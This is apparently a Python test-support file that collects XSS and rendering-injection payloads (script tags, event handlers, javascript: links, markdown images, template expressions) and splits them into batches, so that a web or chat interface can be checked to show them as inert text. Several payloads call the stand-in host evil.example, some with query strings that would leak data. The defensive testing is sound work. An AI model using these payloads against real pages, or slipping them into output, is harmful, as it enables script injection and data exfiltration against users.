"""Texts that would run, load or redraw something if any part of the page took them for more than text."""

from __future__ import annotations

import json
from collections.abc import Iterator, Sequence

from tests.support import SHARED

GIVEN = SHARED / "data" / "security" / "xss"
HOST = "evil.example"
OWN = (
    "<script>alert('own 1')</script>",
    f"<script src=//{HOST}/a.js></script>",
    "<script type=module>alert(2)</script>",
    "<SCRIPT\n>prompt(3)</SCRIPT\t>",
    "<<script>script>confirm(4)<</script>/script>",
    "<img src=none onerror=alert(5)>",
    f"<img src='https://{HOST}/pixel.png?who=reader'>",
    f"<img srcset='//{HOST}/one.png 1x, //{HOST}/two.png 2x'>",
    f"<picture><source srcset=//{HOST}/p.webp><img></picture>",
    "<svg><script>alert(6)</script></svg>",
    "<svg onload=alert(7)><title></svg>",
    f"<svg><image href='https://{HOST}/i.svg' /></svg>",
    f"<svg><use href='https://{HOST}/u.svg#x' /></svg>",
    "<svg><a><animate attributeName=href values=javascript:alert(8) /><text y=20>open</text></a></svg>",
    "<math><mi xlink:href=\"javascript:alert(9)\">x</mi></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(10)>",
    "<noscript><p title=\"</noscript><img src=none onerror=alert(11)>\">",
    "<template><img src=none onerror=alert(12)></template>",
    f"<iframe src=https://{HOST}/frame></iframe>",
    "<iframe srcdoc=\"<script>parent.alert(13)</script>\"></iframe>",
    "<object data='data:text/html,<script>alert(14)</script>'></object>",
    f"<embed src=//{HOST}/e.swf>",
    f"<video autoplay poster=//{HOST}/v.png><source onerror=alert(15)></video>",
    f"<audio src=//{HOST}/a.ogg autoplay onerror=alert(16)></audio>",
    "<details open ontoggle=alert(17)><summary>more</summary></details>",
    "<input autofocus onfocus=alert(18)>",
    "<div style='animation:spin 1s' onanimationstart=alert(19)>turning</div>",
    f"<div style=\"background-image:url(//{HOST}/bg.png)\">papered</div>",
    f"<style>@import '//{HOST}/s.css'; #chat {{ display: none }}</style>",
    f"<link rel=stylesheet href=//{HOST}/l.css><link rel=prefetch href=//{HOST}/next>",
    f"<meta http-equiv=refresh content='0;url=https://{HOST}/gone'>",
    f"<base href=https://{HOST}/><a href=/x>home</a>",
    f"<form action=https://{HOST}/post><button autofocus>Sign in</button></form>",
    f"<a href=\"javascript:alert(20)\">the treaty</a><a ping=//{HOST}/ping href=#c-1-1>x</a>",
    "<a href=\"java\tscript:alert(21)\">tabbed</a><a href=\"\x01javascript:alert(22)\">hidden</a>",
    f"<portal src=//{HOST}></portal><marquee onstart=alert(23)>news</marquee>",
    "<b id=question name=question><img name=getElementById><form id=chat></b>",
    "</p></div></article></template></textarea></title><img src=none onerror=alert(24)>",
    "--><img src=none onerror=alert(25)><!--",
    "]]><img src=none onerror=alert(26)><![CDATA[",
    "\" onmouseover=\"alert(27)\" autofocus onfocus=\"alert(28)\" x=\"",
    "' autofocus tabindex=1 onfocus='alert(29)' '",
    "` onerror=alert(30) `",
    "&lt;img src=none onerror=alert(31)&gt; &#60;script&#62;alert(32)&#60;/script&#62;",
    "\\x3cscript\\x3ealert(33)\\x3c/script\\x3e \\u003cimg src=none onerror=alert(34)\\u003e",
    f"![the seal](https://{HOST}/seal.png?q=secret)",
    f"![the seal][s]\n\n[s]: https://{HOST}/reference.png",
    "[read on](javascript:alert(35)) [and on](data:text/html,<script>alert(36)</script>)",
    f"[closing](<https://{HOST}>\"onmouseover=alert(37)) <https://{HOST}/auto>",
    "```html\n<script>alert(38)</script>\n```",
    "| one |\n| --- |\n| <img src=none onerror=alert(39)> |",
    "$$\\href{javascript:alert(40)}{x}$$ \\(\\includegraphics{https://evil.example/t.png}\\)",
    "${alert(41)} {{constructor.constructor('alert(42)')()}} {@html '<img src=x onerror=alert(43)>'} #{alert(44)}",
    "<x-gradio-app onclick=alert(45) src=//evil.example></x-gradio-app><gradio-app src=//evil.example></gradio-app>",
    "\u202etpircs<\u202c <\u0000script>alert(46)</script> <scr\u200bipt>alert(47)</scr\u200bipt>",
    "javascript:alert(48)//https://news.example/",
    f"//{HOST}/without/scheme",
    f"https://news.example@{HOST}/\\@news.example/",
)  # fmt: skip
STREAMED = OWN[:2] + OWN[5:7] + OWN[9:11] + OWN[19:20] + OWN[24:28] + OWN[33:34] + OWN[38:43] + OWN[45:46] + OWN[47:49]
"""Those drawn letter by letter: one or two of each kind."""


def given() -> list[str]:
    """The shared payloads, every file of them; none where they are not beside the checkout."""
    found = [line for path in sorted(GIVEN.glob("*.txt")) for line in path.read_text("utf-8", "replace").splitlines()]
    found += [
        json.loads(line)["payload"]
        for path in sorted(GIVEN.glob("*.jsonl"))
        for line in path.read_text("utf-8").splitlines()
    ]
    found += [one for path in sorted(GIVEN.glob("*.json")) for one in _strings(json.loads(path.read_text("utf-8")))]
    return [payload for payload in dict.fromkeys(found) if payload.strip()]


def batches(payloads: Sequence[str], chars: int) -> Iterator[list[str]]:
    """Runs of payloads that come to at most so many characters, a line each; a longer one is cut."""
    batch: list[str] = []
    for payload in (one[: chars - 1] for one in payloads):
        if batch and sum(map(len, batch)) + len(batch) + len(payload) >= chars:
            yield batch
            batch = []
        batch.append(payload)
    if batch:
        yield batch


def _strings(value: object) -> Iterator[str]:
    """The payloads of a .json file: whatever list of texts it holds, at any depth; its other fields describe them."""
    if isinstance(value, dict):
        for name, one in value.items():
            if isinstance(one, (dict, list)) and name != "payload_types":
                yield from _strings(one)
    elif isinstance(value, list):
        for one in value:
            yield from [one] if isinstance(one, str) else _strings(one)
